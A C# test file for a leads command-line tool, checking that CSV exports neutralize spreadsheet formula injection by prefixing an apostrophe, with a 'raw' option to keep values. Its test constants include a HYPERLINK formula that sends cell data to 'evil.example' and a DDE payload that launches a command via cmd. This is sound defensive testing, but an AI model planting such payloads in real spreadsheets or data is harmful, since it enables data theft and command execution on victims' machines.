using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text;
using System.Threading.Tasks;
using MarketplaceLeads.Cli.Tests.Support;

namespace MarketplaceLeads.Cli.Tests;

/// <summary>
/// <c>export</c> and <c>due --format csv</c> are opened in spreadsheets and CRMs, and a marketplace form's fields are
/// chosen by whoever fills it in: a value a spreadsheet would run as a formula is written as text (a leading <c>'</c>)
/// unless <c>--csv-formulas raw</c> is given.
/// </summary>
public sealed class CsvFormulaCommandTests : IDisposable
{
    private const string Hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
    private const string Sum = "@SUM(1+1)";
    private const string Dde = "-2+3+cmd|' /C calc'!A0";

    private readonly TempFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public async Task Export_Csv_FormulasFromAMarketplaceForm_AreWrittenAsText_RawKeepsThem()
    {
        var database = await ImportHostileLeadAsync();

        var neutralized = await CliRunner.RunAsync("export", "--db", database);
        var raw = await CliRunner.RunAsync("export", "--db", database, "--csv-formulas", "raw");

        Assert.Equal(ExitCodes.Success, neutralized.ExitCode);
        Assert.Equal(ExitCodes.Success, raw.ExitCode);
        var row = Row(neutralized.Output, "profileId");
        Assert.Equal("'" + Hyperlink, row["firstName"]);
        Assert.Equal("'" + Sum, row["lastName"]);
        Assert.Equal("'" + Dde, row["company"]);
        Assert.Equal("'+1 (425) 555-0100", row["phone"]);
        Assert.Equal("-5", row["title"]);
        AssertNoCellStartsAFormula(neutralized.Output);
        var rawRow = Row(raw.Output, "profileId");
        Assert.Equal(Hyperlink, rawRow["firstName"]);
        Assert.Equal(Sum, rawRow["lastName"]);
        Assert.Equal(Dde, rawRow["company"]);
    }

    [Fact]
    public async Task Due_Csv_FormulasFromAMarketplaceForm_AreWrittenAsText_RawKeepsThem()
    {
        var database = await ImportHostileLeadAsync();

        var neutralized = await CliRunner.RunAsync("due", "--db", database, "--now", CliRunner.Now, "--format", "csv");
        var raw = await CliRunner.RunAsync("due", "--db", database, "--now", CliRunner.Now, "--format", "csv", "--csv-formulas", "raw");

        Assert.Equal(ExitCodes.Success, neutralized.ExitCode);
        var row = Row(neutralized.Output, "kind");
        Assert.Equal("'" + Hyperlink, row["firstName"]);
        Assert.Equal("'" + Sum, row["lastName"]);
        Assert.Equal("'" + Dde, row["company"]);
        Assert.Equal("-5", row["title"]);
        AssertNoCellStartsAFormula(neutralized.Output);
        var rawRow = Row(raw.Output, "kind");
        Assert.Equal(Hyperlink, rawRow["firstName"]);
        Assert.Equal(Dde, rawRow["company"]);
    }

    [Fact]
    public async Task CsvFormulasOption_UnknownValue_IsAUsageErrorNamingTheChoices()
    {
        var run = await CliRunner.RunAsync("export", "--db", _folder.File("none.db"), "--csv-formulas", "strip");

        Assert.Equal(ExitCodes.Error, run.ExitCode);
        Assert.Contains("--csv-formulas", run.Error, StringComparison.Ordinal);
        Assert.Contains("neutralize, raw", run.Error, StringComparison.Ordinal);
    }

    private async Task<string> ImportHostileLeadAsync()
    {
        var payload = _folder.File("hostile.json");
        await File.WriteAllTextAsync(payload, $$"""
            {"UserDetails":{"FirstName":{{Json(Hyperlink)}},"LastName":{{Json(Sum)}},"Email":"mallory@evil.example","Phone":"+1 (425) 555-0100","Country":"US","Company":{{Json(Dde)}},"Title":"-5"},
             "LeadSource":"AppSource-PLT | contoso.contoso-crm-connector","ActionCode":"PLT","OfferTitle":"Contoso CRM Connector"}
            """);
        var database = _folder.File("leads.db");
        var import = await CliRunner.RunAsync("import", payload, "--db", database, "--now", CliRunner.Now);
        Assert.Equal(ExitCodes.Success, import.ExitCode);
        return database;
    }

    private static string Json(string value) => System.Text.Json.JsonSerializer.Serialize(value);

    /// <summary>The first data row of a CSV output, by column name.</summary>
    private static Dictionary<string, string> Row(string csv, string firstColumn)
    {
        var records = Records(csv);
        Assert.Equal(firstColumn, records[0][0]);
        var row = records[1];
        return records[0].Zip(row).ToDictionary(static p => p.First, static p => p.Second, StringComparer.Ordinal);
    }

    private static void AssertNoCellStartsAFormula(string csv)
    {
        foreach (var cell in Records(csv).SelectMany(static r => r))
        {
            Assert.False(cell.Length > 0 && "=+-@\t\r\n".Contains(cell[0], StringComparison.Ordinal) && !double.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _), $"a cell starts a formula: '{cell}'");
        }
    }

    /// <summary>Splits RFC 4180 text (quoted fields with doubled quotes and line breaks; <c>\n</c> line ends) into records.</summary>
    private static List<List<string>> Records(string csv)
    {
        var records = new List<List<string>>();
        var record = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c != '"')
                {
                    field.Append(c);
                }
                else if (i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else
                {
                    quoted = false;
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                record.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\n')
            {
                record.Add(field.ToString());
                field.Clear();
                records.Add(record);
                record = [];
            }
            else
            {
                field.Append(c);
            }
        }

        return records;
    }
}
